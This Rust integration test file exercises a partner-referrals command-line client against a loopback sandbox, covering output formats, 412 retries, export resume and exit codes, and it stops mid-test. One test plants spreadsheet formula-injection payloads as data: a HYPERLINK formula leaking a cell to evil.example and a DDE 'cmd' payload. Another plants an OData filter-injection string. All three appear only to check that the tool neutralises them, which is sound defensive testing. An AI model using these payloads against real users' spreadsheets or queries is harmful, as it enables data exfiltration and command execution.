//! The `referrals` binary, run as a user runs it, against a sandbox on loopback: every command
//! and format, the 412 path, kill-and-resume of `sync` and `export`, failures in the middle of
//! them, bad flags and files, a closed pipe.
//!
//! The sandbox runs in this process behind a switch ([`Mode`]) that can refuse the token from
//! the nth listing on, or change a referral just before the next update reaches it (another
//! user's change, for a real 412).

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicI64, Ordering};
use std::time::{Duration, Instant};

use axum::extract::{Request, State};
use axum::http::{HeaderValue, Method, header};
use axum::middleware::{self, Next};
use axum::response::Response;
use futures_util::TryStreamExt;
use referrals_client::patch::Patch;
use referrals_client::query::Query;
use referrals_client::{Client, facts};
use referrals_sandbox::Config;

use referrals_testkit::TOKEN;

/// What the server does besides being the sandbox.
#[derive(Default)]
struct Mode {
    /// Listings answered before the token is refused (401); negative: never refused.
    lists_before_401: AtomicI64,
    /// Change the referral that the next update names, just before the update.
    conflict_next_update: AtomicBool,
    /// Count of updates that arrived.
    updates: AtomicI64,
}

struct Server {
    runtime: tokio::runtime::Runtime,
    url: String,
    mode: Arc<Mode>,
    client: Client,
}

impl Server {
    fn start(seed_count: usize) -> Self {
        Self::start_with(Config {
            seed_count,
            ..referrals_testkit::config()
        })
    }

    fn start_with(config: Config) -> Self {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        let mode = Arc::new(Mode {
            lists_before_401: AtomicI64::new(-1),
            ..Mode::default()
        });
        let url = runtime.block_on(async {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let url = format!("http://{}", listener.local_addr().unwrap());
            let app = Arc::new(referrals_sandbox::app(&config, &url));
            let switch = Switch {
                mode: mode.clone(),
                client: client(&url),
            };
            let router = referrals_sandbox::router(app)
                .layer(middleware::from_fn_with_state(switch, switched));
            tokio::spawn(async move {
                let _ = axum::serve(listener, router).await;
            });
            url
        });
        let client = client(&url);
        Self {
            runtime,
            url,
            mode,
            client,
        }
    }

    /// The binary, pointed at this server.
    fn referrals(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_referrals"));
        command
            .env("PARTNER_ROOT", &self.url)
            .env("PARTNER_TOKEN", TOKEN)
            .env_remove("NO_COLOR")
            .stdin(Stdio::null());
        command
    }

    /// Runs the binary with `args` to its end.
    fn run(&self, args: &[&str]) -> Outcome {
        let output = self.referrals().args(args).output().unwrap();
        let outcome = Outcome {
            code: output.status.code(),
            stdout: String::from_utf8(output.stdout).unwrap(),
            stderr: String::from_utf8(output.stderr).unwrap(),
        };
        assert!(
            !outcome.stderr.contains("panicked"),
            "referrals {args:?} panicked: {}",
            outcome.stderr
        );
        outcome
    }

    /// Every referral of the store: id → eTag.
    fn store(&self) -> BTreeMap<String, String> {
        self.runtime.block_on(async {
            let all: Vec<_> = self
                .client
                .list_all(Query::new())
                .try_collect()
                .await
                .unwrap();
            all.into_iter()
                .map(|referral| (referral.id.unwrap(), referral.e_tag.unwrap()))
                .collect()
        })
    }
}

fn client(url: &str) -> Client {
    referrals_testkit::client(url)
}

#[derive(Clone)]
struct Switch {
    mode: Arc<Mode>,
    client: Client,
}

async fn switched(State(switch): State<Switch>, mut request: Request, next: Next) -> Response {
    let mode = &switch.mode;
    let path = request.uri().path().to_owned();
    if request.method() == Method::GET && path.ends_with("/referrals") {
        // One atomic step: two readers at once must not both take the last allowed list.
        let before =
            mode.lists_before_401
                .fetch_update(Ordering::SeqCst, Ordering::SeqCst, |left| {
                    (left > 0).then(|| left - 1)
                });
        if before == Err(0) {
            request.headers_mut().insert(
                header::AUTHORIZATION,
                HeaderValue::from_static("Bearer expired"),
            );
        }
    }
    if request.method() == Method::PATCH {
        mode.updates.fetch_add(1, Ordering::SeqCst);
        if mode.conflict_next_update.swap(false, Ordering::SeqCst) {
            let id = path.rsplit('/').next().unwrap_or_default().to_owned();
            switch
                .client
                .update_unconditionally(
                    &id,
                    Patch::new().set_details_notes("changed by a colleague"),
                )
                .await
                .expect("the colleague's change");
        }
    }
    next.run(request).await
}

struct Outcome {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Outcome {
    fn ok(self) -> Self {
        assert_eq!(self.code, Some(0), "stderr: {}", self.stderr);
        self
    }
}

/// The new referral of the document's example `ours-create-request`.
fn new_referral() -> referrals_client::types::NewReferral {
    let example = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../openapi/examples/ours-create-request.json");
    serde_json::from_str(&std::fs::read_to_string(example).unwrap()).unwrap()
}

/// The id of a referral that `filter` flags select, from `list`.
fn one_id(server: &Server, flags: &[&str]) -> String {
    let mut args = vec!["list", "--top", "1", "--select", "id", "--format", "ndjson"];
    args.extend_from_slice(flags);
    let out = server.run(&args).ok();
    let referral: serde_json::Value =
        serde_json::from_str(out.stdout.lines().next().unwrap()).unwrap();
    referral["id"].as_str().unwrap().to_owned()
}

#[test]
fn list_writes_every_format() {
    let server = Server::start(300);
    // NDJSON, the default when standard output is not a terminal.
    let out = server
        .run(&["list", "--status", "New", "--direction", "Incoming"])
        .ok();
    let lines: Vec<serde_json::Value> = out
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert!(lines.len() > 10, "{} referrals", lines.len());
    assert!(
        lines
            .iter()
            .all(|referral| referral["status"] == "New" && referral["direction"] == "Incoming")
    );

    let out = server.run(&["list", "--top", "7", "--format", "json"]).ok();
    let array: Vec<serde_json::Value> = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(array.len(), 7);

    let out = server.run(&["list", "--top", "5", "--format", "csv"]).ok();
    let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let spreadsheet: Vec<String> = facts::COLUMNS
        .iter()
        .map(|column| referrals_client::flat::spreadsheet_text(column).into_owned())
        .collect();
    assert_eq!(headers, spreadsheet);
    assert_eq!(reader.records().count(), 5);

    let out = server
        .run(&["list", "--top", "3", "--format", "table"])
        .ok();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), 4, "{}", out.stdout);
    assert!(lines[0].starts_with("ID "), "{}", out.stdout);

    let out = server
        .run(&[
            "list",
            "--select",
            "id,status",
            "--orderby",
            "createdDateTime desc",
            "--top",
            "2",
            "--count",
        ])
        .ok();
    for line in out.stdout.lines() {
        let referral: serde_json::Map<String, serde_json::Value> =
            serde_json::from_str(line).unwrap();
        assert!(
            referral.keys().all(|key| key == "id" || key == "status"),
            "{line}"
        );
    }
    assert!(out.stderr.contains("referrals match"), "{}", out.stderr);
}

/// `--columns` makes CSV of chosen leaves: the header and cells are those of the full CSV (the
/// same exact money, the same formula-safe cells), in the order asked, from `list` and
/// `export`; a column the document does not have is refused with the list of those it has, and
/// another format with it (or an export named as JSON) is a wrong command line.
#[test]
fn columns_make_csv_of_chosen_leaves() {
    let server = Server::start(120);
    let leaves = "id,customerProfile/name,details/dealValue,details/currency";
    let full = server.run(&["list", "--format", "csv"]).ok().stdout;
    let mut reader = csv::Reader::from_reader(full.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let at: Vec<usize> = leaves
        .split(',')
        .map(|leaf| header.iter().position(|name| name == leaf).unwrap())
        .collect();
    let expected: Vec<Vec<String>> = reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            at.iter().map(|&i| record[i].to_owned()).collect()
        })
        .collect();
    let read = |text: &str| -> (Vec<String>, Vec<Vec<String>>) {
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let header = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let rows = reader
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect();
        (header, rows)
    };
    let listed = server.run(&["list", "--columns", leaves]).ok().stdout;
    assert_eq!(
        read(&listed),
        (
            leaves.split(',').map(str::to_owned).collect(),
            expected.clone()
        )
    );
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("deals.txt");
    let file = file.to_str().unwrap();
    server
        .run(&["export", "--out", file, "--columns", leaves])
        .ok();
    let exported = std::fs::read_to_string(file).unwrap();
    assert_eq!(read(&exported).1.len(), expected.len());
    assert!(
        expected.iter().any(|row| row[2].contains('.')),
        "money with cents"
    );

    let out = server.run(&["list", "--columns", "id,customerProfile"]);
    assert_eq!(out.code, Some(2), "{}", out.stderr);
    assert!(
        out.stderr.contains("`customerProfile` is not a column")
            && out.stderr.contains("customerProfile/name"),
        "{}",
        out.stderr
    );
    for format in ["ndjson", "table"] {
        let out = server.run(&["list", "--columns", "id", "--format", format]);
        assert_eq!(out.code, Some(2), "{format}: {}", out.stderr);
    }
    let named_json = dir.path().join("deals.ndjson");
    let out = server.run(&[
        "export",
        "--out",
        named_json.to_str().unwrap(),
        "--columns",
        "id",
    ]);
    assert_eq!(out.code, Some(2), "{}", out.stderr);
    let out = server.run(&["list", "--columns", "id", "--select", "id"]);
    assert_eq!(out.code, Some(2), "{}", out.stderr);
}

#[test]
fn flag_values_are_literals() {
    let server = Server::start(50);
    // Were the value pasted into the filter, this would list every New referral.
    let out = server
        .run(&["list", "--country", "x' or status eq 'New"])
        .ok();
    assert_eq!(out.stdout, "");
    // A quote and non-ASCII in a value are the value: the one referral that has it is found.
    let email = "zoë.o'neil@contoso.com";
    let mut new = new_referral();
    new.team = Some(vec![referrals_client::types::Member {
        email: Some(email.into()),
        ..Default::default()
    }]);
    let created = server.runtime.block_on(server.client.create(&new)).unwrap();
    let out = server
        .run(&["list", "--team-email", email, "--select", "id"])
        .ok();
    let ids: Vec<serde_json::Value> = out
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(ids, [serde_json::json!({"id": created.id.unwrap()})]);
    let out = server.run(&["list", "--status", "Ünïcødé 'New'"]).ok();
    assert_eq!(out.stdout, "");
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
    let server = Server::start(0);
    let mut new = new_referral();
    let name = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    new.name = Some(name.into());
    new.details.notes = Some("+cmd|' /C calc'!A0".into());
    new.details.deal_value = Some("-1234567890123.45".parse().unwrap());
    let created = server.runtime.block_on(server.client.create(&new)).unwrap();
    let id = created.id.unwrap();
    let read = |raw: bool| {
        let mut args = vec!["list", "--format", "csv", "--filter"];
        let filter = format!(
            "engagementId eq '{}'",
            created.engagement_id.clone().unwrap()
        );
        args.push(&filter);
        if raw {
            args.push("--raw-csv");
        }
        let out = server.run(&args).ok();
        let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
        let headers = reader.headers().unwrap().clone();
        let row = reader.records().next().unwrap().unwrap();
        let get = |column: &str| {
            let at = headers
                .iter()
                .position(|h| h.trim_start_matches('\'') == column)
                .unwrap();
            (headers[at].to_owned(), row[at].to_owned())
        };
        (
            get("name"),
            get("details/notes"),
            get("details/dealValue"),
            get("@odata.context").0,
            get("id").1,
        )
    };
    let (name_cell, notes, deal, context, found) = read(false);
    assert_eq!(found, id);
    assert_eq!(name_cell.1, format!("'{name}"));
    assert_eq!(notes.1, "'+cmd|' /C calc'!A0");
    assert_eq!(
        deal.1, "-1234567890123.45",
        "a number keeps its digits and its sign"
    );
    assert_eq!(context, "'@odata.context", "the header is text too");
    let (name_cell, notes, _, context, _) = read(true);
    assert_eq!(
        (name_cell.1.as_str(), notes.1.as_str()),
        (name, "+cmd|' /C calc'!A0")
    );
    assert_eq!(context, "@odata.context");
}

#[test]
fn bad_command_lines_exit_2() {
    let server = Server::start(10);
    for args in [
        &["list", "--nope"][..],
        &["list", "--created-from", "yesterday"],
        &["list", "--orderby", "name desc"],
        &["list", "--select", "id,nope"],
        &["list", "--filter", "status eq"],
        &["sync", "--db", "x.sqlite", "--every", "0s"],
        &["accept"],
        &["--root", "ftp://example.com", "list"],
    ] {
        let out = server.run(args);
        assert_eq!(out.code, Some(2), "{args:?}: {}", out.stderr);
        assert!(out.stderr.starts_with("error:"), "{args:?}: {}", out.stderr);
    }
    let out = server
        .referrals()
        .env_remove("PARTNER_TOKEN")
        .arg("list")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no token"));
}

#[test]
fn a_wrong_token_exits_1_with_the_reason() {
    let server = Server::start(10);
    let out = server.run(&["--token", "wrong", "list"]);
    assert_eq!(out.code, Some(1));
    assert!(out.stderr.contains("401"), "{}", out.stderr);
    assert!(out.stderr.contains("bearer token"), "{}", out.stderr);
}

#[test]
fn a_closed_pipe_is_not_an_error() {
    let server = Server::start(2000);
    let mut child = server
        .referrals()
        .args(["list", "--format", "ndjson"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    // The reader goes away, as `head -1` does; the stdout pipe is closed here.
    assert!(first.starts_with('{'));
    let status = wait(&mut child, Duration::from_secs(60));
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    assert_eq!(status, Some(0), "{stderr}");
    assert_eq!(stderr, "");
}

#[test]
fn every_command_has_help_with_examples() {
    let server = Server::start(1);
    for command in [
        "list",
        "export",
        "sync",
        "get",
        "accept",
        "decline",
        "close-won",
        "close-lost",
        "set-status",
        "create",
        "listen",
        "changes",
        "api",
        "completions",
    ] {
        let out = server.run(&[command, "--help"]).ok();
        assert!(out.stdout.contains("Example"), "{command}: {}", out.stdout);
    }
    let out = server.run(&["--help"]).ok();
    assert!(out.stdout.contains("Exit status"));
    let out = server.run(&["completions", "bash"]).ok();
    assert!(out.stdout.contains("referrals"));
}

#[test]
fn the_generated_commands_offer_no_flag_for_a_read_only_member() {
    let server = Server::start(1);
    let out = server.run(&["api", "replace-referral", "--help"]).ok();
    assert!(out.stdout.contains("--status-reason"), "{}", out.stdout);
    // The path's `id` is a parameter: its flag stays.
    assert!(out.stdout.contains("--id <id>"), "{}", out.stdout);
    for member in referrals_client::types::Referral::READ_ONLY
        .iter()
        .filter(|member| **member != "id")
    {
        let mut flag = String::from("--");
        for c in member.chars() {
            if c.is_ascii_uppercase() {
                flag.push('-');
            }
            flag.push(c.to_ascii_lowercase());
        }
        assert!(
            !out.stdout.contains(&format!("{flag} ")),
            "{flag}:\n{}",
            out.stdout
        );
    }
}

#[test]
fn set_status_takes_any_status_of_the_rules_with_its_first_substatus() {
    let server = Server::start(200);
    let out = server.run(&["set-status", "--help"]).ok();
    for rule in referrals_client::facts::STATUS_RULES {
        assert!(out.stdout.contains(rule.from.as_str()), "{}", out.stdout);
    }
    let id = one_id(&server, &["--status", "New", "--direction", "Incoming"]);
    let out = server.run(&["set-status", &id, "Active"]).ok();
    let moved: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(moved["status"], "Active");
    assert_eq!(moved["substatus"], "Accepted");
    let out = server.run(&["set-status", &id, "New", "--substatus", "Pending"]);
    assert_ne!(out.code, Some(0), "{}", out.stdout);
    assert!(out.stderr.contains("may move to"), "{}", out.stderr);
    let out = server
        .run(&[
            "set-status",
            &id,
            "Closed",
            "--substatus",
            "Lost",
            "--reason",
            "No budget",
        ])
        .ok();
    let closed: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(closed["substatus"], "Lost");
    assert_eq!(closed["statusReason"], "No budget");
}

#[test]
fn triage_follows_the_rules_and_handles_412() {
    let server = Server::start(200);
    let id = one_id(&server, &["--status", "New", "--direction", "Incoming"]);
    let out = server.run(&["accept", &id]).ok();
    let accepted: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(accepted["status"], "Active");
    assert_eq!(accepted["substatus"], "Accepted");
    // Again: nothing to send.
    let updates = server.mode.updates.load(Ordering::SeqCst);
    let out = server.run(&["accept", &id]).ok();
    assert!(out.stderr.contains("already"), "{}", out.stderr);
    assert_eq!(server.mode.updates.load(Ordering::SeqCst), updates);

    // A colleague changes the referral between the read and the update: 412, shown, retried.
    server
        .mode
        .conflict_next_update
        .store(true, Ordering::SeqCst);
    let out = server
        .run(&["close-won", &id, "--deal-value", "12345678901234.56"])
        .ok();
    assert!(
        out.stderr.contains("changed since it was read"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("details/notes"), "{}", out.stderr);
    assert!(
        out.stderr.contains("changed by a colleague"),
        "{}",
        out.stderr
    );
    assert!(
        out.stdout.contains("\"dealValue\":12345678901234.56"),
        "{}",
        out.stdout
    );

    // The same with --no-retry: exit 3 (changed meanwhile), what changed shown, nothing changed.
    let id = one_id(&server, &["--status", "New", "--direction", "Incoming"]);
    server
        .mode
        .conflict_next_update
        .store(true, Ordering::SeqCst);
    let out = server.run(&["decline", &id, "--reason", "Out of region", "--no-retry"]);
    assert_eq!(out.code, Some(3), "{}", out.stderr);
    assert!(
        out.stderr.contains("changed since it was read (412)"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("changed by a colleague"),
        "{}",
        out.stderr
    );
    let out = server.run(&["get", &id, "--format", "json"]).ok();
    assert!(out.stdout.contains("\"status\":\"New\""), "{}", out.stdout);

    // A change that the rules refuse is not sent.
    let updates = server.mode.updates.load(Ordering::SeqCst);
    let closed = one_id(&server, &["--status", "Closed"]);
    let out = server.run(&["accept", &closed]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(out.stderr.contains("nothing was sent"), "{}", out.stderr);
    assert_eq!(server.mode.updates.load(Ordering::SeqCst), updates);
}

#[test]
fn scripts_decide_on_their_own_read_with_if_match() {
    let server = Server::start(100);
    let id = one_id(&server, &["--status", "New", "--direction", "Incoming"]);
    let out = server
        .run(&["get", &id, "--select", "id,eTag,status", "--format", "json"])
        .ok();
    let read: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let read = &read[0];
    assert_eq!(
        read.as_object().unwrap().keys().collect::<Vec<_>>(),
        ["eTag", "id", "status"],
        "only the selected members: {read}"
    );
    let etag = read["eTag"].as_str().unwrap().to_owned();

    // Someone changes it after the script read it: the script's change is refused, exit 3.
    server.runtime.block_on(async {
        server
            .client
            .update_unconditionally(&id, Patch::new().set_details_notes("moved on"))
            .await
            .unwrap();
    });
    let updates = server.mode.updates.load(Ordering::SeqCst);
    let out = server.run(&["accept", &id, "--if-match", &etag]);
    assert_eq!(out.code, Some(3), "{}", out.stderr);
    assert!(out.stderr.contains("412"), "{}", out.stderr);
    assert_eq!(
        server.mode.updates.load(Ordering::SeqCst),
        updates + 1,
        "one PATCH"
    );
    // A script that says --quiet gets the status alone.
    let out = server.run(&["accept", &id, "--if-match", &etag, "--quiet"]);
    assert_eq!(out.code, Some(3), "{}", out.stderr);
    assert_eq!(out.stderr, "", "nothing to read with --quiet");

    // On the version it read again, the change goes through: read as the README's loop reads
    // it, the last line of CSV (the eTag as a CSV cell, its quotes doubled).
    let out = server
        .run(&["get", &id, "--select", "eTag", "--format", "csv"])
        .ok();
    let etag = out.stdout.lines().last().unwrap().to_owned();
    assert!(etag.starts_with("\"\"\""), "a CSV cell: {etag}");
    let out = server.run(&["accept", &id, "--if-match", &etag]).ok();
    assert!(
        out.stdout.contains("\"status\":\"Active\""),
        "{}",
        out.stdout
    );
}

/// A second `webhooks register` says that `webhooks update` replaces the registration, with
/// exit status 5 (nothing with `--quiet`); every command's help lists the statuses.
#[test]
fn a_second_registration_exits_5_and_points_to_update() {
    let server = Server::start(10);
    let register = |quiet: bool| {
        let mut args = vec!["webhooks", "--webhooks-root", &server.url, "register"];
        args.extend(["--url", "http://127.0.0.1:9/events"]);
        if quiet {
            args.push("--quiet");
        }
        server.run(&args)
    };
    let first = register(false);
    assert_eq!(first.code, Some(0), "{}", first.stderr);
    let again = register(false);
    assert_eq!(again.code, Some(5), "{}", again.stderr);
    assert!(
        again.stderr.contains("referrals webhooks update --url") && again.stderr.contains("409"),
        "{}",
        again.stderr
    );
    let quiet = register(true);
    assert_eq!((quiet.code, quiet.stderr.as_str()), (Some(5), ""));
    for command in [
        &["--help"][..],
        &["webhooks", "register", "--help"],
        &["sync", "--help"],
    ] {
        let help = server.run(command).ok().stdout;
        assert!(
            help.contains("Exit status:") && help.contains("  5  `webhooks register`"),
            "{command:?}: {help}"
        );
    }
}

#[test]
fn tables_fit_the_width_of_the_screen() {
    let server = Server::start(60);
    for width in ["90", "160"] {
        let out = server
            .referrals()
            .env("COLUMNS", width)
            .args(["list", "--format", "table"])
            .output()
            .unwrap();
        assert!(out.status.success());
        let text = String::from_utf8(out.stdout).unwrap();
        let width: usize = width.parse().unwrap();
        for line in text.lines() {
            assert!(
                line.chars().count() <= width,
                "{} > {width}: {line}",
                line.chars().count()
            );
        }
        assert!(text.lines().count() > 50, "{text}");
    }
}

#[test]
fn create_and_share_with_microsoft() {
    let server = Server::start(10);
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../openapi/examples");
    let out = server
        .run(&[
            "create",
            "--from",
            examples.join("ours-create-request.json").to_str().unwrap(),
        ])
        .ok();
    let created: serde_json::Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert!(created["id"].is_string());

    let dir = tempfile::tempdir().unwrap();
    let mut shared: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(examples.join("ours-create-shared-request.json")).unwrap(),
    )
    .unwrap();
    let object = shared.as_object_mut().unwrap();
    object.remove("engagementId");
    object.remove("target");
    let file = dir.path().join("shared.json");
    std::fs::write(&file, shared.to_string()).unwrap();
    let out = server
        .run(&[
            "create",
            "--from",
            file.to_str().unwrap(),
            "--share-with-microsoft",
        ])
        .ok();
    let both: Vec<serde_json::Value> = out
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(both.len(), 2);
    assert_eq!(both[0]["engagementId"], both[1]["engagementId"]);
    assert_eq!(both[1]["target"][0]["id"], "msft");

    let bad = dir.path().join("bad.json");
    std::fs::write(
        &bad,
        r#"{"type": "Independent", "customerProfile": {"name": 3}}"#,
    )
    .unwrap();
    let out = server.run(&["create", "--from", bad.to_str().unwrap()]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stderr.contains("customerProfile.name"),
        "{}",
        out.stderr
    );
}

#[test]
fn api_commands_are_generated_from_the_document() {
    let server = Server::start(10);
    let id = one_id(&server, &[]);
    let out = server.run(&["api", "get-referral", "--id", &id]).ok();
    let referral: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(referral["id"], id.as_str());
    let out = server.run(&["api", "get-referral", "--id", "no-such-referral"]);
    assert_eq!(out.code, Some(1));
    assert!(out.stderr.contains("404"), "{}", out.stderr);
    let out = server
        .run(&["api", "create-referral", "--json-body-template"])
        .ok();
    let schema: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(schema["title"], "NewReferral");
}

/// Waits for `child` at most `limit`; kills it after.
fn wait(child: &mut Child, limit: Duration) -> Option<i32> {
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return status.code();
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("the child did not end within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Runs `args` and kills the process after `after`, or lets it end first.
fn kill_after(server: &Server, args: &[&str], after: Duration) {
    let mut child = server
        .referrals()
        .args(args)
        .arg("--quiet")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while start.elapsed() < after {
        if child.try_wait().unwrap().is_some() {
            return;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
fn a_concurrent_export_is_the_sequential_one_and_slows_down_for_429() {
    let server = Server::start_with(Config {
        seed_count: 3000,
        rate_limit: Some(12),
        ..referrals_testkit::config()
    });
    let dir = tempfile::tempdir().unwrap();
    let path = |name: &str| dir.path().join(name).to_str().unwrap().to_owned();
    for filter in [
        &[][..],
        &["--status", "New"],
        &["--orderby", "createdDateTime desc"],
    ] {
        let (one, many) = (path("one.csv"), path("many.csv"));
        let export = |out: &str, concurrency: &str| {
            let mut args = vec![
                "export",
                "--out",
                out,
                "--restart",
                "--concurrency",
                concurrency,
            ];
            args.extend_from_slice(filter);
            let outcome = server.run(&args);
            assert_eq!(outcome.code, Some(0), "{}", outcome.stderr);
            outcome.stderr
        };
        export(&one, "1");
        let said = export(&many, "16");
        let (one, many) = (
            std::fs::read_to_string(&one).unwrap(),
            std::fs::read_to_string(&many).unwrap(),
        );
        assert_eq!(one.lines().count(), many.lines().count(), "{filter:?}");
        assert!(one == many, "{filter:?}: the files differ");
        if filter.is_empty() {
            // The same seed without a rate limit, to count the store.
            let store = Server::start(3000).store().len();
            assert_eq!(many.lines().count(), store + 1);
            assert!(said.contains("answered 429 to"), "{said}");
        }
    }
}

#[test]
fn an_export_whose_plan_is_one_part_splits_it_among_its_readers() {
    // Fewer referrals than make two parts: one part, and the second reader splits it.
    let server = Server::start_with(Config {
        seed_count: 300,
        page_size: 10,
        ..referrals_testkit::config()
    });
    let dir = tempfile::tempdir().unwrap();
    let path = |name: &str| dir.path().join(name).to_str().unwrap().to_owned();
    for order in ["createdDateTime asc", "createdDateTime desc"] {
        let export = |out: &str, concurrency: &str| {
            let args = [
                "export",
                "--out",
                out,
                "--orderby",
                order,
                "--concurrency",
                concurrency,
            ];
            let outcome = server.run(&args);
            assert_eq!(outcome.code, Some(0), "{}", outcome.stderr);
            (std::fs::read_to_string(out).unwrap(), outcome.stderr)
        };
        let (one, _) = export(&path("one.ndjson"), "1");
        let (two, said) = export(&path("two.ndjson"), "2");
        assert_eq!(one.lines().count(), server.store().len());
        assert!(one == two, "{order}: the files differ");
        let parts = said
            .split_once(" pages (")
            .and_then(|(_, rest)| rest.split_once(' '))
            .and_then(|(parts, _)| parts.parse::<usize>().ok());
        assert!(parts.is_some_and(|parts| parts > 1), "{order}: {said}");
        // Killed at random moments, its splits recorded or not: the same file in the end.
        let killed = path("killed.ndjson");
        let args = [
            "export",
            "--out",
            &killed,
            "--orderby",
            order,
            "--concurrency",
            "2",
        ];
        let mut rng = fastrand::Rng::with_seed(11);
        for _ in 0..4 {
            kill_after(&server, &args, Duration::from_millis(rng.u64(50..600)));
        }
        assert_eq!(server.run(&args).code, Some(0));
        assert!(
            std::fs::read_to_string(&killed).unwrap() == one,
            "{order}: killed"
        );
        stopped_after_a_split_goes_on(&server, &path("stopped.ndjson"), order, &one);
    }
}

/// An export stopped by a refused token once its part was split goes on from its checkpoint,
/// the split part's saved page included, to the file of `one` reader.
fn stopped_after_a_split_goes_on(server: &Server, stopped: &str, order: &str, one: &str) {
    let args = [
        "export",
        "--out",
        stopped,
        "--orderby",
        order,
        "--concurrency",
        "2",
    ];
    server.mode.lists_before_401.store(12, Ordering::SeqCst);
    let outcome = server.run(&args);
    server.mode.lists_before_401.store(-1, Ordering::SeqCst);
    assert_eq!(outcome.code, Some(1), "{}", outcome.stderr);
    let checkpoint = std::fs::read_to_string(format!("{stopped}.partial-checkpoint")).unwrap();
    let saved: serde_json::Value = serde_json::from_str(&checkpoint).unwrap();
    let parts = saved["parts"].as_array().unwrap();
    assert!(parts.len() > 1, "{checkpoint}");
    // A part read partly, whose saved page the next run asks for as its own listing
    // (`Client::resume`): for a part cut by a split since, a page of its longer range.
    let cut = parts
        .iter()
        .any(|part| part["pages"].as_u64() > Some(0) && !part["next"].is_null());
    assert!(cut, "{checkpoint}");
    let outcome = server.run(&args);
    assert_eq!(outcome.code, Some(0), "{order}: {}", outcome.stderr);
    assert!(
        std::fs::read_to_string(stopped).unwrap() == one,
        "{order}: stopped"
    );
}

#[test]
fn export_survives_kills_and_failures() {
    let server = Server::start(6000);
    let dir = tempfile::tempdir().unwrap();
    let path = |name: &str| dir.path().join(name).to_str().unwrap().to_owned();
    let clean = path("clean.csv");
    server.run(&["export", "--out", &clean]).ok();
    let expected = std::fs::read_to_string(&clean).unwrap();
    let mut reader = csv::Reader::from_reader(expected.as_bytes());
    assert_eq!(reader.records().count(), server.store().len());
    // Customers' names and addresses: readable by their owner alone.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&clean).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{mode:o}");
    }

    // Killed at random moments, then run again until it completes: the same file.
    let out = path("killed.csv");
    let mut rng = fastrand::Rng::with_seed(7);
    for _ in 0..6 {
        kill_after(
            &server,
            &["export", "--out", &out],
            Duration::from_millis(rng.u64(20..400)),
        );
    }
    server.run(&["export", "--out", &out]).ok();
    assert_eq!(std::fs::read_to_string(&out).unwrap(), expected);
    assert!(!Path::new(&format!("{out}.partial")).exists());
    assert!(!Path::new(&format!("{out}.partial-checkpoint")).exists());

    // The token is refused in the middle: exit 1, no file, and the next run goes on.
    let failed = path("failed.csv");
    server.mode.lists_before_401.store(20, Ordering::SeqCst);
    let out = server.run(&["export", "--out", &failed, "--concurrency", "1"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(out.stderr.contains("401"), "{}", out.stderr);
    assert!(
        out.stderr
            .contains("stopped after 2000 referrals in 20 pages"),
        "{}",
        out.stderr
    );
    assert!(!Path::new(&failed).exists());
    server.mode.lists_before_401.store(-1, Ordering::SeqCst);
    let out = server.run(&["export", "--out", &failed]).ok();
    assert!(out.stderr.contains("going on"), "{}", out.stderr);
